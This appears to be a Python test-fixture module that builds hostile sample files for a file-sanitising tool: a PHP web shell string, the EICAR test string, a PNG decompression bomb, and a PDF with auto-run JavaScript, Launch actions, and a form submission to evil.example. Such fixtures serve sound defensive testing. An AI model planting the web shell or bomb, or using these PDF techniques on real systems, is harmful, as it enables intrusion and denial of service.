"""Files made to do harm, built here so that none lies in the tree."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

GPS_NEEDLE = b"59.3293N"
PHP = b"<?php system($_GET['c']); ?>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Red to the left and blue to the right, so that a turn shows."""
    image = Image.new("RGB", size, (255, 0, 0))
    image.paste((0, 0, 255), (size[0] // 2, 0, *size))
    return image.convert(mode)


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    made = Image.Exif()
    made[0x0112] = orientation
    made[0x010E] = GPS_NEEDLE.decode()
    made.get_ifd(0x8825)[0x001D] = GPS_NEEDLE.decode()
    return made


def png_bomb(width: int, height: int, *, rows: int) -> bytes:
    """A small file that says it is `width` by `height` pixels and has `rows` of its rows."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + 4 * width)
    body = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    chunks = ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*one) for one in chunks)


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def zip_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("word/document.xml", "<w/>")
    return out.getvalue()


def pdf(pages: int = 1) -> Pdf:
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page()
    return made


def pdf_bytes(made: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    made.save(out, **options)  # type: ignore[arg-type] # options are pikepdf's own
    return out.getvalue()


def acting_pdf() -> Pdf:
    """A document that does, carries and tells everything that a document should not."""
    made = pdf()
    page = made.pages[0].obj
    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('NEEDLE')")))
    hidden = made.make_stream(b"NEEDLE inside")
    spec = made.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=hidden))
    )
    made.Root.OpenAction = script
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])),
    )
    made.Root.AF = Array([spec])
    made.Root.Metadata = made.make_stream(b"<x:xmpmeta>NEEDLE</x:xmpmeta>")
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp>NEEDLE</xdp>"))
    made.docinfo["/Author"] = String("NEEDLE")
    made.trailer["/Extra"] = String("NEEDLE")
    page.AA = Dictionary(O=script)
    launch = Dictionary(S=Name.Launch, F=String("NEEDLE.exe"), Next=script)
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/NEEDLE"))
    page.Annots = Array(
        [
            made.make_indirect(annotation("Link", A=launch)),
            annotation("Link", A=made.make_indirect(submit)),
            annotation("Link", A=Dictionary(S=Name.URI, URI=String("javascript:NEEDLE"))),
            annotation("Link", A=Dictionary(S=Name.GoToR, F=String("//NEEDLE/share"))),
            annotation("Widget", A=script, AA=Dictionary(K=script)),
            annotation("FileAttachment", FS=spec, Contents=String("NEEDLE")),
            made.make_indirect(annotation("RichMedia", RichMediaContent=hidden)),
            annotation("Screen", A=Dictionary(S=Name.Rendition, JS=String("NEEDLE"))),
        ]
    )
    made.Root.Odd = Array([script, launch, submit])
    made.Root.Outlines = made.make_indirect(Dictionary(Title=String("x"), A=launch))
    return made


def annotation(subtype: str, **entries: object) -> pikepdf.Dictionary:
    return Dictionary(
        Type=Name.Annot,
        Subtype=Name(f"/{subtype}"),
        Rect=Array([0, 0, 9, 9]),
        **entries,  # type: ignore[arg-type] # any PDF value
    )


def written(folder: Path, content: bytes) -> Path:
    path = folder / "given"
    path.write_bytes(content)
    return path
